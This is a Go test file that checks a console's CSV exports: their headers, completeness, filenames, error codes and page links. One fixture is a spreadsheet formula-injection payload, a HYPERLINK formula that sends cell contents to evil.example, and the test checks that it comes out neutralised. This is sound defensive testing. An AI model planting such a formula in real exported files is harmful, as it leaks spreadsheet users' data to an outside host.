package console

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bourse/bourse/caps"
	"github.com/bourse/bourse/internal/safecsv"
)

// csvOf downloads a table and reads it back as a spreadsheet would see
// its cells (what safecsv wrote, apostrophes included).
func (b *browser) csvOf(path string) (int, http.Header, [][]string) {
	b.t.Helper()
	resp, err := b.c.Get(b.srv.URL + path)
	require.NoError(b.t, err)
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		return resp.StatusCode, resp.Header, nil
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	require.NoError(b.t, err, "%s: %s", path, body)
	return resp.StatusCode, resp.Header, recs
}

// TestCSV: every table exports as CSV, whole where its page shows a page
// of it, in the page's formats, with cells that could be formulas
// neutralised; the pages link their exports.
func TestCSV(t *testing.T) {
	day := time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)
	srv, cfg, tr, store := consoleAt(t, day.Add(23*time.Hour))
	ctx := context.Background()
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	_, err := tr.Grant(ctx, "root", "CRED", "alice", decimal.NewFromInt(181), "g0", formula)
	require.NoError(t, err)
	grants(t, tr, 119)
	_, err = tr.SetSpendCap(ctx, "root", "alice", "CRED", caps.Day, decimal.NewFromInt(150), decimal.RequireFromString("0.8"), "s1")
	require.NoError(t, err)
	var at []time.Time
	for i := range 60 {
		at = append(at, day.Add(time.Duration(i)*time.Minute))
	}
	settle(t, store, at, []string{"0.2", "0.35"})

	b := newBrowser(t, srv)
	code, _, _ := b.csvOf("/csv/audit")
	assert.Equal(t, http.StatusSeeOther, code, "log in first")
	b.login("vic")

	code, h, recs := b.csvOf("/csv/account?id=wallet/CRED/alice")
	require.Equal(t, http.StatusOK, code)
	assert.Equal(t, "text/csv; charset=utf-8", h.Get("Content-Type"))
	assert.Regexp(t, `^attachment; filename="bourse-account-20261125-230000.csv"$`, h.Get("Content-Disposition"))
	assert.Equal(t, []string{"seq", "at", "amount", "balance", "counterparty", "contract", "key", "memo"}, recs[0])
	require.Len(t, recs, 1+120, "the whole statement, not its first page")
	assert.Equal(t, []string{"1", recs[1][1], "181.00", "181.00", "issuance/CRED", "", "g0", "'" + formula}, recs[1], "the memo neutralised")
	assert.Equal(t, formula, safecsv.Restore(recs[1][7]))
	assert.Equal(t, "120", recs[120][0])

	_, _, recs = b.csvOf("/csv/audit")
	require.Len(t, recs, 1+2+120+1)
	assert.Equal(t, "spend-cap.set", recs[1][2], "newest first, as the trail")
	assert.Equal(t, "The spend cap set to limit 150.00, warn 0.8; alice@day.2026-11-25's SPEND-CRED account went from 0.00 to 150.00.", recs[1][5])

	_, _, recs = b.csvOf("/csv/contracts?from=2026-11-25&to=2026-11-26")
	assert.Len(t, recs, 1+60, "every contract, not one page")
	assert.Equal(t, "0.20", recs[1][9], "a charge in its currency's places")
	_, _, recs = b.csvOf("/csv/contracts?from=2026-11-26&to=2026-11-27")
	assert.Equal(t, [][]string{{"contract", "accepted", "client", "server", "state", "reason", "gpus", "model", "prepayment", "charge", "refund", "currency", "gpu_seconds"}},
		recs, "no contracts: the header alone")

	_, _, recs = b.csvOf("/csv/cost?from=2026-11-25&to=2026-11-26&client=alice")
	require.Len(t, recs, 2)
	assert.Equal(t, []string{"2026-11-25", "acme", "", "alice", "any", "60", "6000.0", "16.50", "CRED"}, recs[1])
	_, _, recs = b.csvOf("/csv/servers?from=2026-11-25&to=2026-11-26")
	assert.Equal(t, []string{"2026-11-25", "atlas", "60", "6000.0", "16.50", "CRED", ""}, recs[1])

	_, _, recs = b.csvOf("/csv/balances")
	assert.Equal(t, []string{"CRED", "wallet/CRED/acme", "acme", "0", "0.00", "0.00", "7321.00", "0.00"}, recs[1])
	assert.Equal(t, []string{"CRED", "wallet/CRED/alice", "alice", "1", "7321.00", "0.00", "7321.00", "0.00"}, recs[2])
	_, _, recs = b.csvOf("/csv/supply?currency=CRED")
	assert.Len(t, recs, 1+120)
	assert.Equal(t, []string{"181.00", "181.00"}, recs[1][1:3])
	_, _, recs = b.csvOf("/csv/spend-caps")
	assert.Equal(t, []string{"alice", "CRED", "day", "0.00", "0.00", "150.00", "0%"}, recs[1])
	for _, table := range []string{"revenue", "allowances", "gpu-caps", "rates", "prices"} {
		code, _, recs := b.csvOf("/csv/" + table)
		assert.Equal(t, http.StatusOK, code, table)
		assert.Len(t, recs, 1, "%s: a header, nothing yet", table)
	}

	for path, want := range map[string]int{"/csv/nothing": 404, "/csv/account?id=wallet/CRED/nobody": 404, "/csv/supply": 400, "/csv/cost?from=x": 400} {
		code, _, _ := b.csvOf(path)
		assert.Equal(t, want, code, path)
	}

	for path, link := range map[string]string{
		"/":                                  `href="/csv/balances"`,
		"/account?id=wallet/CRED/alice":      `href="/csv/account?id=wallet%2fCRED%2falice"`,
		"/report?from=2026-11-25&client=bob": `href="/csv/cost?from=2026-11-25&amp;client=bob"`,
		"/contracts?state=settled":           `href="/csv/contracts?state=settled"`,
		"/audit":                             `href="/csv/audit"`,
		"/supply":                            `href="/csv/supply?currency=CRED"`,
		"/caps":                              `href="/csv/spend-caps"`,
		"/rates":                             `href="/csv/prices"`,
		"/allowances":                        `href="/csv/allowances"`,
	} {
		_, page := b.get(path)
		assert.Contains(t, page, link, path)
	}
	cfg.Contracts = nil
	bare, _ := serve(t, cfg)
	nb := newBrowser(t, bare)
	nb.login("vic")
	code, _, _ = nb.csvOf("/csv/contracts")
	assert.Equal(t, http.StatusNotFound, code, "no contract store")
}
